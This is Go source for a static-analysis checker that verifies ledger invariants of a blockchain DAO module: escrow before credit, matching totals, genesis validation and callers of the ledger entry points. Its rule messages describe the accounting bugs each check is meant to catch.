		"BalanceOf", "GetBalance", "GetAllBalances", "SpendableCoins", "SpendableCoin", "LockedCoins", "GetSupply", "AmountOf", "Find",
		"CallEVM", "CallEVMWithData", "Unpack", "UnpackIntoInterface", "TotalAmount", "GetLockedUpCoins", "GetVestingCoins", "GetVestedCoins":
		return true
	}
	return false
}

// isSplitResultOrCopy: v is result idx of the SubtractAmountFromPeriods call itself, or a plain copy of it
// (append(<empty>, result...)): the schedule is handed on period by period, unmodified.
func isSplitResultOrCopy(v ssa.Value, split *ssa.Call, idx int) bool {
	if split == nil {
		return false
	}
	v = stripValue(v)
	if e, ok := v.(*ssa.Extract); ok {
		return e.Tuple == ssa.Value(split) && e.Index == idx
	}
	if c, ok := v.(*ssa.Call); ok {
		if b, ok := c.Call.Value.(*ssa.Builtin); ok && b.Name() == "append" && len(c.Call.Args) == 2 {
			empty := false
			switch x := stripValue(c.Call.Args[0]).(type) {
			case *ssa.Const:
				empty = true
			case *ssa.Slice:
				if al, ok := x.X.(*ssa.Alloc); ok {
					if at, ok := deref(al.Type()).Underlying().(*types.Array); ok && at.Len() == 0 {
						empty = true
					}
				}
			case *ssa.MakeSlice:
				if n, ok := constInt(x.Len); ok && n == 0 {
					empty = true
				}
			}
			return empty && isSplitResultOrCopy(c.Call.Args[1], split, idx)
		}
	}
	return false
}
