package main

import (
	"go/token"
	"go/types"
	"fmt"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

func init() {
	register(&propDef{
		ID:  "C12",
		Run: runC12,
		Explanation: "Static analysis of the UC DAO ledger code: (R1) ledger stores are written only by the keeper's three setters, and those setters are called only from Fund / TransferOwnership / addCoinsToAccount / genesis; " +
			"(R2) Fund escrows the deposit into the module account before any ledger write, credits the depositor and raises the total with the same coin on every success path, and refreshes the holder index; " +
			"(R3) no keyed-ledger function writes back a value derived from a read of key k1 after an intervening write to a possibly-equal key k2 (lost update when k1==k2); " +
			"(R4) TransferOwnership credits exactly its amount parameter to newOwner, debits a value derived from owner's balance and amount, touches only those two keys and never the total; every msg handler validates first.",
		Assumptions: []string{"sdk.Coins arithmetic (Add, SafeSub, Find) is correct", "the bank keeper moves exactly the coins it is given"},
		Declined:    []string{"numeric equality sum(holders)=total=module balance over arbitrary histories (only the pairing/ownership/aliasing structure is decided)"},
	})
}

func isParam(v ssa.Value, name string) bool {
	p, ok := stripValue(v).(*ssa.Parameter)
	return ok && p.Name() == name
}

const ucdaoK = "x/ucdao/keeper"

func ucdaoFn(name string) string { return "(" + ucdaoK + ".BaseKeeper)." + name }

func runC12(r *Run) {
	defer importProcessLocal(r, "RM", "x/ucdao")
	defer func() {
		r.Rule("R9", "ERR.failed-steps-fail-the-message: the DAO keeper writes the owner's reduced balance before it credits the recipient and relies on the message failing as a whole when a later step is rejected; in the ucdao message server and in Fund / TransferOwnership a non-nil error of a keeper or Haqq call reaches only failure exits — a handler that answers success after the keeper refused (e.g. for an amount that truncates to zero) commits the half-done transfer: share is destroyed")
		var fns []*ssa.Function
		for _, fn := range r.P.Funcs {
			if !pathHasSuffix(fnPkgPath(fn), "x/ucdao/keeper") || fn.Synthetic != "" || fn.Parent() != nil || isTestSupport(r.P, fn) {
				continue
			}
			recv := ""
			if fn.Signature.Recv() != nil {
				recv = namedName(deref(fn.Signature.Recv().Type()))
			}
			if recv == "msgServer" || (recv == "BaseKeeper" && (fn.Name() == "Fund" || fn.Name() == "TransferOwnership")) {
				fns = append(fns, fn)
			}
		}
		n := checkErrorsFailTheMessage(r, "R9", fns, "the ledger writes made before the failing step are committed")
		r.Floor("R9", "error-returning keeper calls in the DAO message path", n, 6)
		r.Rule("R11", "SHAPE.genesis-is-validated: the module's GenesisState.Validate can fail (it has a failure exit) — InitGenesis takes duplicates at face value (a second entry for an address overwrites the balance while the total adds both), so without validation a genesis document can start the chain with total ≠ sum of shares")
		if gv, ok := r.P.FnOK("(x/ucdao/types.GenesisState).Validate"); ok && gv.Synthetic == "" {
			canFail := false
			eachInstr(gv, func(in ssa.Instruction) {
				if ret, isR := in.(*ssa.Return); isR && classifyExit(ret) != ExitSuccess {
					canFail = true
				}
			})
			r.Check(canFail, "R11", fnID(gv)+"#can-fail", r.P.Pos(fnPos(gv)), "has a failure exit",
				"the DAO module's genesis validation returns nil unconditionally: duplicate holders or repeated denominations are accepted and the imported ledger starts with total ≠ sum of balances")
			// duplicates are recognised by what the address decodes to (an address has an upper-case spelling too)
			okKey, nLook := true, 0
			eachInstr(gv, func(in ssa.Instruction) {
				lk, ok := in.(*ssa.Lookup)
				if !ok {
					return
				}
				if _, isMap := lk.X.Type().Underlying().(*types.Map); !isMap {
					return
				}
				nLook++
				if !backSlice(lk.Index).HasCall(func(g CallInfo) bool { return g.Name == "GetAddress" || g.Name == "AccAddressFromBech32" || g.Name == "MustAccAddressFromBech32" }) {
					okKey = false
				}
			})
			r.Check(okKey && nLook >= 1, "R11", fnID(gv)+"#duplicates-by-decoded-address", r.P.Pos(fnPos(gv)), "the duplicate-holder test is keyed by the decoded address",
				"GenesisState.Validate has no duplicate-holder test keyed by the decoded address (none at all, or keyed by the address string as spelled): two entries for one holder — the second in upper case — are both accepted, InitGenesis overwrites the balance and adds both to the total")
			// and InitGenesis runs it
			if ig, ok := r.P.FnOK("(x/ucdao/keeper.BaseKeeper).InitGenesis"); ok {
				isVal := isCallMatching(func(ci CallInfo) bool { return ci.Name == "Validate" && ci.Recv == "GenesisState" })
				isWrite := isCallMatching(func(ci CallInfo) bool {
					return ci.Name == "SetParams" || ci.Name == "initBalances" || ci.Name == "setTotalBalanceOfCoin" || ci.Name == "setHoldersIndex"
				})
				w := PathQuery{Fn: ig, Block: isVal, Target: isWrite}.Search()
				r.Check(w == nil, "R11", fnID(ig)+"#validates-before-writing", r.P.Pos(fnPos(ig)), "Validate() precedes every write",
					"InitGenesis writes the imported ledger without having run GenesisState.Validate: the module manager does not validate on InitChain, only the validate-genesis command does", r.P.witness(w)...)
			}
		} else {
			r.Bad("R11", "anchor/ucdao GenesisState.Validate", "", "not found")
		}
		r.Rule("R12", "PATH.foreign-writer-of-the-total-keeps-the-equation: the recorded total is written by the keeper's own setter (R1) — and by whoever else opens the DAO store under TotalBalanceKey with the store key in hand (an upgrade handler's one-off repair; C15 R1 tables it). Such a writer changes the total without touching any share, so each of its writes is reachable only over the passing edge of an equality test between a value derived from the recorded total and the sum of the holders' shares (accumulated by IterateAllBalances / GetAccountsBalances): it may restore the equation where the ledger is off by exactly its amount, it may not break it on a chain whose ledger is consistent")
		{
			nFW := 0
			for _, fn := range r.P.Funcs {
				if pathHasSuffix(fnPkgPath(fn), "x/ucdao/keeper") || fn.Synthetic != "" || isTestSupport(r.P, fn) {
					continue
				}
				var stores []ssa.Value
				eachCall(fn, func(ci CallInfo) {
					if ci.Name != "NewStore" {
						return
					}
					for _, a := range ci.Instr.Common().Args {
						if backSlice(a).Any(func(v ssa.Value) bool {
							g, ok := v.(*ssa.Global)
							return ok && g.Name() == "TotalBalanceKey" && g.Pkg != nil && pathHasSuffix(g.Pkg.Pkg.Path(), "x/ucdao/types")
						}) {
							if v, ok := ci.Instr.(ssa.Value); ok {
								stores = append(stores, v)
							}
						}
					}
				})
				if len(stores) == 0 {
					continue
				}
				// allocs captured by a closure handed to an all-holders iteration
				sumCells := map[ssa.Value]bool{}
				sumCall := false
				eachCall(fn, func(ci CallInfo) {
					if ci.Name == "GetAccountsBalances" {
						sumCall = true
					}
					if ci.Name != "IterateAllBalances" {
						return
					}
					for _, a := range ci.Instr.Common().Args {
						if mc, ok := a.(*ssa.MakeClosure); ok {
							for _, b := range mc.Bindings {
								sumCells[b] = true
							}
						}
					}
				})
				pass, _ := guardPassEdges(fn, func(cond ssa.Value) (bool, bool) {
					c, ok := cond.(*ssa.Call)
					if !ok || !(callInfo(c).Name == "Equal" || callInfo(c).Name == "IsEqual") || len(c.Call.Args) != 2 {
						return false, false
					}
					isTotal := func(v ssa.Value) bool {
						return backSlice(v).HasCall(func(g CallInfo) bool { return g.Name == "GetTotalBalanceOf" || g.Name == "GetTotalBalance" })
					}
					isSum := func(v ssa.Value) bool {
						sl := backSlice(v)
						if sumCall && sl.HasCall(func(g CallInfo) bool { return g.Name == "GetAccountsBalances" }) {
							return true
						}
						return sl.Any(func(x ssa.Value) bool { return sumCells[x] })
					}
					a, b := c.Call.Args[0], c.Call.Args[1]
					return true, (isTotal(a) && isSum(b)) || (isTotal(b) && isSum(a))
				})
				idx := 0
				eachCall(fn, func(ci CallInfo) {
					if !(ci.Name == "Set" || ci.Name == "Delete") || len(ci.Instr.Common().Args) == 0 {
						return
					}
					recv := ci.Instr.Common().Args[0]
					isTot := false
					for _, st := range stores {
						if backSlice(recv).Has(st) {
							isTot = true
						}
					}
					if !isTot {
						return
					}
					nFW++
					idx++
					call := ci.Instr
					w := PathQuery{Fn: fn, Target: func(x ssa.Instruction) bool { return x == ssa.Instruction(call) }, DelEdge: edgeSet(pass)}.Search()
					r.Check(w == nil && len(pass) > 0, "R12", fmt.Sprintf("%s#total-%s-%d-keeps-the-equation", fnID(fn), ci.Name, idx), r.P.Pos(instrPos(call)), "reachable only where the new total equals the sum of the holders' shares",
						"a function outside the DAO keeper rewrites the recorded total without comparing it with the sum of the holders' shares: on every chain whose ledger is consistent (or off by another amount) the write breaks total = Σ shares — permanently, nothing recomputes the total — or fails on a total below the hard-coded amount", r.P.witness(w)...)
				})
			}
			r.Count("R12 writes of the DAO total outside the keeper", nFW)
		}
		r.Rule("R13", "OWN.ledger-entry-points: the two operations that change shares — Fund (a bank deposit paired with a credit of the sender's share and the total) and TransferOwnership — are called, in non-test Haqq code, only by the DAO message server and by the tabled v1.7.6 upgrade step (which funds the DAO on behalf of whitelisted accounts out of their own balances). Another caller — an upgrade step that moves an old module account's coins in 'through Fund' — credits a share to an address nobody controls for coins that already back existing shares: total and shares double while the module account holds the coins once")
		{
			allowedEntry := map[string]map[string]string{
				"Fund": {
					"(x/ucdao/keeper.msgServer).Fund":     "the message",
					"app/upgrades/v1.7.6.TurnOnDAO":       "upgrade step: funds on behalf of whitelisted accounts from their own balances",
					"app/upgrades/v1.7.6.liquidateAndFund": "upgrade step helper",
				},
				"TransferOwnership": {
					"(x/ucdao/keeper.msgServer).TransferOwnership":           "the message",
					"(x/ucdao/keeper.msgServer).TransferOwnershipWithRatio":  "the message",
					"(x/ucdao/keeper.msgServer).TransferOwnershipWithAmount": "the message",
				},
			}
			nE := 0
			for _, fn := range r.P.Funcs {
				if isTestSupport(r.P, fn) || fn.Synthetic != "" || !isHaqqPath(fnPkgPath(fn)) || strings.Contains(fnPkgPath(fn), "/testutil") || isGeneratedFile(r.P.FileOf(fnPos(outermost(fn)))) {
					continue
				}
				owner := fnID(outermost(fn))
				idx := 0
				eachCall(fn, func(ci CallInfo) {
					tab, ok := allowedEntry[ci.Name]
					if !ok {
						return
					}
					// the DAO keeper's method: receiver type from x/ucdao/keeper (concrete or the Keeper interface)
					if !strings.Contains(ci.PkgPath, "x/ucdao/keeper") {
						return
					}
					if ci.Recv == "msgServer" || ci.Recv == "MsgServer" {
						return
					}
					nE++
					idx++
					why, ok := tab[owner]
					r.Check(ok, "R13", fmt.Sprintf("%s#calls-%s-%d", owner, ci.Name, idx), r.P.Pos(instrPos(ci.Instr)), "tabled caller: "+why,
						"the DAO ledger's "+ci.Name+" is called from "+owner+", which is neither the message server nor a tabled upgrade step: shares are created or moved outside the paths whose pairing (bank deposit ↔ share ↔ total) the other rules establish")
				})
			}
			r.Floor("R13", "calls of the DAO ledger's entry points", nE, 4)
		}
		r.Rule("R14", "see C15 R11 (imported): the bank MsgMultiSend wrapper refuses every blocked output on every path to the transfer — the DAO module account is blocked precisely so that coins enter the pool only through Fund")
		r.Import("R14/C15.", []string{"R11"}, runC15)
		r.Rule("R15", "PATH.the-migration-moves-everything: the v1.8.0 step that moves the old DAO account's coins into the module account (whose ledger already attributes them to the holders) sends GetAllBalances(old account) on every path to a success return — an early return for 'an unfunded old account' judged by one denomination strands the others, and the recorded total exceeds the module account's coins for good")
		if mg, ok := r.P.FnOK("app/upgrades/v1.8.0.migrateUCDAObalance"); ok {
			isSend := isCallMatching(func(ci CallInfo) bool {
				if ci.Name != "SendCoinsFromAccountToModule" {
					return false
				}
				for _, a := range ci.Instr.Common().Args {
					if namedName(a.Type()) == "Coins" && backSlice(a).HasCall(func(g CallInfo) bool { return g.Name == "GetAllBalances" }) {
						return true
					}
				}
				return false
			})
			w := PathQuery{Fn: mg, Block: isSend, Target: func(in ssa.Instruction) bool {
				ret, ok := in.(*ssa.Return)
				return ok && classifyExit(ret) != ExitFailure
			}}.Search()
			// the send's own error is returned: the return that carries it is not a 'success without the send'
			r.Check(w == nil, "R15", fnID(mg)+"#moves-all-balances", r.P.Pos(fnPos(mg)), "every non-failure return follows SendCoinsFromAccountToModule(GetAllBalances(old))",
				"the migration of the old DAO account can return without moving all of its balances", r.P.witness(w)...)
		} else {
			r.Bad("R15", "anchor/migrateUCDAObalance", "", "not found")
		}
		r.Rule("R16", "PATH.genesis-ledger-is-backed: the DAO's InitGenesis creates/fetches the module account (GetModuleAccount — so that nothing else can put a plain account at that address before the first deposit) and compares the module account's bank coins (GetAllBalances) with the total it computed from the imported shares, panicking on the mismatch edge: a well-formed ucdao section whose shares have no coins behind them otherwise starts a chain on which the ledger equation is false at height 1 with no message delivered")
		if ig, ok := r.P.FnOK("(x/ucdao/keeper.BaseKeeper).InitGenesis"); ok {
			var getAcc, getBal ssa.Instruction
			eachCall(ig, func(ci CallInfo) {
				switch ci.Name {
				case "GetModuleAccount":
					getAcc = ci.Instr
				case "GetAllBalances":
					getBal = ci.Instr
				}
			})
			r.Check(getAcc != nil, "R16", fnID(ig)+"#module-account-ensured", r.P.Pos(fnPos(ig)), "InitGenesis calls GetModuleAccount (which creates the account when missing)",
				"the DAO's InitGenesis never creates its module account: until the first deposit the address is free, and a zero-value SELFDESTRUCT naming it as beneficiary stores a plain EthAccount there, after which every MsgFund panics with 'account is not a module account'")
			compared := false
			if getBal != nil {
				for _, b := range ig.Blocks {
					ifi, isIf := lastIf(b)
					if !isIf {
						continue
					}
					sl := backSlice(ifi.Cond)
					if !sl.Has(getBal.(ssa.Value)) {
						continue
					}
					// the other side is the total computed from the imported shares
					fromShares := sl.HasCall(func(g CallInfo) bool { return g.Name == "Add" && namedName(g.Instr.Common().Signature().Results().At(0).Type()) == "Coins" }) || sl.HasField("Balance", "Coins")
					for _, succ := range b.Succs {
						if blockAlwaysPanics(succ) && fromShares {
							compared = true
						}
					}
				}
			}
			r.Check(compared, "R16", fnID(ig)+"#pool-equals-computed-total", r.P.Pos(fnPos(ig)), "a branch on GetAllBalances(module account) vs. the computed total leads to panic",
				"the DAO's InitGenesis does not compare the module account's coins with the total of the imported shares (no branch whose condition depends on GetAllBalances and on the summed balances leads to a panic): genesis {holder: 100 ISLM, total 100 ISLM} with nothing at the module address in the bank section passes ValidateGenesis and InitChain — shares and total say 100 ISLM, the module account holds nothing")
		} else {
			r.Bad("R16", "anchor/ucdao.InitGenesis", "", "not found")
		}
		r.Rule("R10", "SHAPE.index-decided-by-balances-only: setHoldersIndex lists an address exactly when its DAO balances are not all zero — every branch condition in it is built from GetAccountBalances(addr).IsZero() and holdersStore.Has(key) alone; a condition that consults anything else (the bank keeper's blocked addresses, account types) makes the index differ from the set of non-zero accounts")
		if sh, ok := r.P.FnOK("(x/ucdao/keeper.BaseKeeper).setHoldersIndex"); ok {
			allowed := map[string]bool{"GetAccountBalances": true, "IsZero": true, "Has": true, "MustLengthPrefix": true, "getHoldersStore": true, "KVStore": true, "NewStore": true}
			bad, nIf := "", 0
			for _, b := range sh.Blocks {
				ifi, isIf := lastIf(b)
				if !isIf {
					continue
				}
				nIf++
				backSlice(ifi.Cond).Any(func(v ssa.Value) bool {
					if c, ok := v.(*ssa.Call); ok {
						if n := callInfo(c).Name; !allowed[n] && bad == "" {
							bad = callInfo(c).String() + " at " + r.P.Pos(instrPos(c))
						}
					}
					return false
				})
			}
			r.Check(bad == "" && nIf >= 2, "R10", fnID(sh)+"#decided-by-balances-only", r.P.Pos(fnPos(sh)), fmt.Sprintf("%d conditions, all over the address's balances and its current index entry", nIf),
				"the holder index is decided by "+bad+" too: an account with a non-zero DAO balance can be left out of the index (or a zero one kept)")
		} else {
			r.Bad("R10", "anchor/setHoldersIndex", "", "not found")
		}
	}()
	P := r.P
	r.Rule("R1", "OWN: KVStore Set/Delete inside x/ucdao/keeper only in {setBalance, setHoldersIndex, setTotalBalanceOfCoin, SetParams/params setters}; setBalance ← {addCoinsToAccount, TransferOwnership}; setTotalBalanceOfCoin ← {Fund, InitGenesis}; addCoinsToAccount ← {Fund, TransferOwnership, InitGenesis}; setHoldersIndex ← {Fund, TransferOwnership, InitGenesis}; no caller outside the keeper package")
	r.Rule("R2", "PATH+FLOW Fund: error-checked SendCoinsFromAccountToModule(ctx, sender, ucdao, amount) precedes every ledger write; each addCoinsToAccount(sender, coin) is followed by setTotalBalanceOfCoin(GetTotalBalanceOf(coin.Denom)+coin) of the same coin before the next credit or a success exit, and no total update happens without a preceding credit; setHoldersIndex(sender) on every success path")
	r.Rule("R3", "STALE: in a keyed-ledger function, a setBalance(k1, v) with v derived from a read of k1 must not be reachable through an intervening ledger write to a different SSA key k2 that follows the read, unless k1==k2 is excluded by a guard")
	r.Rule("R4", "PATH+FLOW TransferOwnership: success ⇒ addCoinsToAccount(newOwner, amount-parameter) and setBalance(owner, f(GetAccountBalances(owner), amount)); ledger writes only with key owner/newOwner; setTotalBalanceOfCoin unreachable; every msg handler: error-checked msg.ValidateBasic() precedes the keeper call")

	// ---------- R1 ----------
	setters := map[string]bool{"setBalance": true, "setHoldersIndex": true, "setTotalBalanceOfCoin": true}
	allowedStoreWriters := map[string]string{
		ucdaoFn("setBalance"): "ledger setter", ucdaoFn("setHoldersIndex"): "holder index setter", ucdaoFn("setTotalBalanceOfCoin"): "total setter",
		ucdaoFn("SetParams"): "params", ucdaoFn("SetModuleEnabled"): "params",
		ucdaoFn("InitGenesis"): "genesis (holder index for imported balances)", ucdaoFn("initBalances"): "genesis (imported balances)",
	}
	allowedCallers := map[string]map[string]bool{
		"setBalance":            {ucdaoFn("addCoinsToAccount"): true, ucdaoFn("TransferOwnership"): true},
		"setTotalBalanceOfCoin": {ucdaoFn("Fund"): true, ucdaoFn("InitGenesis"): true},
		"addCoinsToAccount":     {ucdaoFn("Fund"): true, ucdaoFn("TransferOwnership"): true, ucdaoFn("InitGenesis"): true},
		"setHoldersIndex":       {ucdaoFn("Fund"): true, ucdaoFn("TransferOwnership"): true, ucdaoFn("InitGenesis"): true},
		"initBalances":          {ucdaoFn("InitGenesis"): true},
	}
	nWrites, nCalls := 0, 0
	for _, fn := range P.Funcs {
		if isTestSupport(P, fn) || fn.Synthetic != "" {
			continue
		}
		pk := fnPkgPath(fn)
		owner := fnID(outermost(fn))
		eachCall(fn, func(ci CallInfo) {
			// raw store writes inside the ucdao keeper package
			if pathHasSuffix(pk, ucdaoK) && (ci.Name == "Set" || ci.Name == "Delete") && (ci.Invoke || ci.Recv == "Store") && len(callArgs(ci.Instr)) >= 2 {
				rt := ""
				if ci.Invoke {
					rt = ci.Recv
				} else {
					rt = ci.PkgPath
				}
				if strings.Contains(rt, "KVStore") || strings.Contains(rt, "store/prefix") || rt == "Store" {
					nWrites++
					if _, ok := allowedStoreWriters[owner]; !ok {
						r.Bad("R1", owner+"#store-"+ci.Name, P.Pos(instrPos(ci.Instr)), "DAO store is written outside the keeper's setters")
					}
				}
			}
			if ci.Static == nil || !pathHasSuffix(ci.PkgPath, ucdaoK) || ci.Recv != "BaseKeeper" {
				return
			}
			if al, ok := allowedCallers[ci.Name]; ok {
				nCalls++
				if al[owner] {
					r.OK("R1", owner+"#"+ci.Name, P.Pos(instrPos(ci.Instr)), "allowed caller")
				} else {
					r.Bad("R1", owner+"#"+ci.Name, P.Pos(instrPos(ci.Instr)), fmt.Sprintf("%s is called from %s, which is not one of its confirmed callers", ci.Name, owner))
				}
			}
			_ = setters
		})
	}
	r.Floor("R1", "ledger setter call sites", nCalls, 8)
	r.Floor("R1", "store writes in x/ucdao/keeper", nWrites, 6)

	// ---------- R2 Fund ----------
	if fund, ok := P.FnOK(ucdaoFn("Fund")); ok {
		where := P.Pos(fnPos(fund))
		modName, _ := P.constOf(haqqMod+"/x/ucdao/types", "ModuleName")
		isEscrow := isCallMatching(func(ci CallInfo) bool {
			if ci.Name != "SendCoinsFromAccountToModule" {
				return false
			}
			c := ci.Instr
			s, ok := constString(argN(c, 2))
			return isParam(argN(c, 1), "sender") && ok && s == modName && isParam(argN(c, 3), "amount") && errHandled(c)
		})
		isLedgerWrite := isCallMatching(func(ci CallInfo) bool {
			return ci.Static != nil && pathHasSuffix(ci.PkgPath, ucdaoK) && (ci.Name == "addCoinsToAccount" || ci.Name == "setBalance" || ci.Name == "setTotalBalanceOfCoin" || ci.Name == "setHoldersIndex")
		})
		w := Precedes(fund, isEscrow, isLedgerWrite, nil)
		r.Check(w == nil, "R2", fnID(fund)+"#escrow-before-ledger", where, "deposit is escrowed (error-checked) before any ledger write", "a ledger write is reachable without a preceding error-checked SendCoinsFromAccountToModule(sender → ucdao, amount)", P.witness(w)...)
		w = Precedes(fund, isEscrow, isSuccessExit, nil)
		r.Check(w == nil, "R2", fnID(fund)+"#escrow-on-success", where, "every success exit passes the escrow", "Fund can succeed without moving the deposit into the module account", P.witness(w)...)

		elemOfAmount := func(v ssa.Value) bool {
			ia, ok := v.(*ssa.IndexAddr)
			return ok && isParam(ia.X, "amount")
		}
		var credits, totals []ssa.CallInstruction
		eachCall(fund, func(ci CallInfo) {
			if ci.Static == nil || !pathHasSuffix(ci.PkgPath, ucdaoK) {
				return
			}
			switch ci.Name {
			case "addCoinsToAccount":
				credits = append(credits, ci.Instr)
			case "setTotalBalanceOfCoin":
				totals = append(totals, ci.Instr)
			}
		})
		r.Floor("R2", "Fund credit calls", len(credits), 1)
		r.Floor("R2", "Fund total updates", len(totals), 1)
		isCredit := func(in ssa.Instruction) bool {
			for _, c := range credits {
				if ssa.Instruction(c) == in {
					return true
				}
			}
			return false
		}
		isTotal := func(in ssa.Instruction) bool {
			for _, c := range totals {
				if ssa.Instruction(c) == in {
					return true
				}
			}
			return false
		}
		for i, c := range credits {
			inst := fmt.Sprintf("%s#credit-%d", fnID(fund), i+1)
			okKey := isParam(argN(c, 1), "sender") && errHandled(c)
			csl := backSlice(argN(c, 2))
			okCoin := csl.Any(elemOfAmount)
			r.Check(okKey && okCoin, "R2", inst+"/args", P.Pos(instrPos(c)), "credits sender with an element of amount, error checked",
				"the credit is not addCoinsToAccount(ctx, sender, <element of amount>) with its error checked")
			w := PathQuery{Fn: fund, Start: c, Block: isTotal, Target: func(in ssa.Instruction) bool { return isSuccessExit(in) || isCredit(in) }}.Search()
			r.Check(w == nil, "R2", inst+"/total-follows", P.Pos(instrPos(c)), "total is raised after the credit before the next credit or success", "after crediting the depositor, a success exit or the next credit is reachable without raising the recorded total", P.witness(w)...)
		}
		for i, t := range totals {
			inst := fmt.Sprintf("%s#total-%d", fnID(fund), i+1)
			tsl := backSlice(argN(t, 1))
			depCoin := tsl.Any(elemOfAmount)
			depGet := tsl.HasCall(func(ci CallInfo) bool { return ci.Name == "GetTotalBalanceOf" })
			// the same element feeds a credit
			same := false
			for _, c := range credits {
				csl := backSlice(argN(c, 2))
				for v := range tsl.Vals {
					if elemOfAmount(v) && csl.Has(v) {
						same = true
					}
				}
			}
			r.Check(depCoin && depGet && same, "R2", inst+"/value", P.Pos(instrPos(t)), "new total = f(GetTotalBalanceOf, the credited coin)",
				fmt.Sprintf("the stored total must derive from GetTotalBalanceOf (%v) and from the same element of amount that is credited (%v)", depGet, depCoin && same))
			// no total update without a credit since entry / since the previous total update
			w := Precedes(fund, isCredit, func(in ssa.Instruction) bool { return in == ssa.Instruction(t) }, nil)
			r.Check(w == nil, "R2", inst+"/credit-precedes", P.Pos(instrPos(t)), "a credit precedes the total update", "the total is raised on a path without a credit", P.witness(w)...)
			w = PathQuery{Fn: fund, Start: t, Block: isCredit, Target: isTotal}.Search()
			r.Check(w == nil, "R2", inst+"/no-double", P.Pos(instrPos(t)), "no second total update without a credit in between", "two total updates are reachable without a credit in between", P.witness(w)...)
		}
		isHolders := isCallMatching(func(ci CallInfo) bool {
			return ci.Name == "setHoldersIndex" && ci.Static != nil && isParam(argN(ci.Instr, 1), "sender")
		})
		w = Precedes(fund, isHolders, isSuccessExit, nil)
		r.Check(w == nil, "R2", fnID(fund)+"#holders-index", where, "holder index refreshed for the depositor on every success path", "Fund can succeed without refreshing the holder index of the depositor", P.witness(w)...)
	} else {
		r.Bad("R2", "anchor/"+ucdaoFn("Fund"), "", "Fund not found")
	}

	// ---------- R3 STALE over all keyed-ledger functions of the package ----------
	nStale := 0
	for _, fn := range P.Funcs {
		if !pathHasSuffix(fnPkgPath(fn), ucdaoK) || isTestSupport(P, fn) {
			continue
		}
		nStale += staleCheck(r, fn)
	}
	r.Count("R3 ledger write-backs examined", nStale)
	r.Floor("R3", "ledger write-backs derived from reads", nStale, 2)

	// ---------- R4 TransferOwnership ----------
	if tr, ok := P.FnOK(ucdaoFn("TransferOwnership")); ok {
		where := P.Pos(fnPos(tr))
		isCreditNew := isCallMatching(func(ci CallInfo) bool {
			return ci.Name == "addCoinsToAccount" && ci.Static != nil && isParam(argN(ci.Instr, 1), "newOwner") && isParam(argN(ci.Instr, 2), "amount") && errHandled(ci.Instr)
		})
		w := Precedes(tr, isCreditNew, isSuccessExit, nil)
		r.Check(w == nil, "R4", fnID(tr)+"#credit-new-owner", where, "every success path credits newOwner with exactly the amount parameter", "TransferOwnership can succeed without addCoinsToAccount(ctx, newOwner, amount) (error-checked)", P.witness(w)...)
		isDebit := isCallMatching(func(ci CallInfo) bool {
			if ci.Name != "setBalance" || ci.Static == nil || !isParam(argN(ci.Instr, 1), "owner") || !errHandled(ci.Instr) {
				return false
			}
			sl := backSlice(argN(ci.Instr, 2))
			return sl.HasParam("amount") && sl.HasCall(func(g CallInfo) bool {
				return (g.Name == "GetAccountBalances" || g.Name == "GetBalance") && isParam(argN(g.Instr, 1), "owner")
			})
		})
		// the debit sits in a loop over the amount's coins: a success exit must be unreachable without passing the debit
		// unless the loop body is never entered (empty amount). We therefore check the weaker, sound form: a debit call exists,
		// depends on owner's balance and amount, and the success exit is only reachable through the loop that contains it.
		debits := 0
		eachInstr(tr, func(in ssa.Instruction) {
			if isDebit(in) {
				debits++
			}
		})
		r.Check(debits >= 1, "R4", fnID(tr)+"#debit-owner", where, "owner is debited with a value derived from its own balance and amount", "no error-checked setBalance(ctx, owner, f(GetAccountBalances(owner), amount)) in TransferOwnership")
		// every requested coin is looked up in the owner's balance: the lookup key is an element of the amount parameter
		// (the requested coins drive the scan, not the holdings), and a coin that is not found cannot reach a success exit
		{
			isAmountElem := func(v ssa.Value) bool {
				hit := false
				backSlice(v).Any(func(x ssa.Value) bool {
					switch y := x.(type) {
					case *ssa.IndexAddr:
						if isParam(y.X, "amount") {
							hit = true
						}
					case *ssa.Index:
						if isParam(y.X, "amount") {
							hit = true
						}
					}
					return hit
				})
				return hit
			}
			var lookups []ssa.CallInstruction
			eachCall(tr, func(ci CallInfo) {
				if ci.Name != "Find" && ci.Name != "AmountOf" && ci.Name != "AmountOfNoDenomValidation" {
					return
				}
				a := callArgs(ci.Instr)
				if len(a) < 2 {
					return
				}
				recvBal := backSlice(a[0]).HasCall(func(g CallInfo) bool { return g.Name == "GetAccountBalances" || g.Name == "GetBalance" })
				if recvBal && !backSlice(a[0]).HasParam("amount") && isAmountElem(a[1]) {
					lookups = append(lookups, ci.Instr)
				}
			})
			okLookup := len(lookups) > 0
			var wit []string
			for _, lk := range lookups {
				if callInfo(lk).Name != "Find" {
					continue
				}
				// Find returns (found bool, coin): the not-found edge must not reach a success exit
				var notFound []Edge
				for _, b := range tr.Blocks {
					if ifi, ok := lastIf(b); ok {
						cond, neg := ifi.Cond, false
						for {
							if u, ok := cond.(*ssa.UnOp); ok && u.Op == token.NOT {
								neg, cond = !neg, u.X
								continue
							}
							break
						}
						if ex, ok := cond.(*ssa.Extract); ok && ex.Tuple == lk.Value() && ex.Index == 0 {
							if neg {
								notFound = append(notFound, Edge{b, 0})
							} else {
								notFound = append(notFound, Edge{b, 1})
							}
						}
					}
				}
				if len(notFound) == 0 {
					okLookup = false
				}
				for _, e := range notFound {
					if w := (PathQuery{Fn: tr, StartBlock: e.From.Succs[e.Succ], Target: isSuccessExit}).Search(); w != nil {
						okLookup = false
						wit = P.witness(w)
					}
				}
			}
			r.Check(okLookup, "R4", fnID(tr)+"#every-requested-coin-checked", where, "each coin of the amount is looked up in the owner's balance; a coin that is not held fails the transfer",
				"TransferOwnership no longer looks every requested coin up in the owner's balance (the scan is driven by something other than the amount's coins, or a missing denomination does not fail): a requested denomination the owner does not hold is credited to the new owner without being debited anywhere — shares are created", wit...)
		}
		// keys
		badKey := false
		eachCall(tr, func(ci CallInfo) {
			if ci.Static == nil || !pathHasSuffix(ci.PkgPath, ucdaoK) {
				return
			}
			switch ci.Name {
			case "setBalance", "addCoinsToAccount", "setHoldersIndex":
				k := argN(ci.Instr, 1)
				if !isParam(k, "owner") && !isParam(k, "newOwner") {
					badKey = true
					r.Bad("R4", fnID(tr)+"#foreign-key/"+ci.Name, P.Pos(instrPos(ci.Instr)), "TransferOwnership writes a ledger entry whose key is neither owner nor newOwner")
				}
			case "setTotalBalanceOfCoin":
				r.Bad("R4", fnID(tr)+"#touches-total", P.Pos(instrPos(ci.Instr)), "TransferOwnership changes the recorded DAO total (a transfer must not create or destroy shares)")
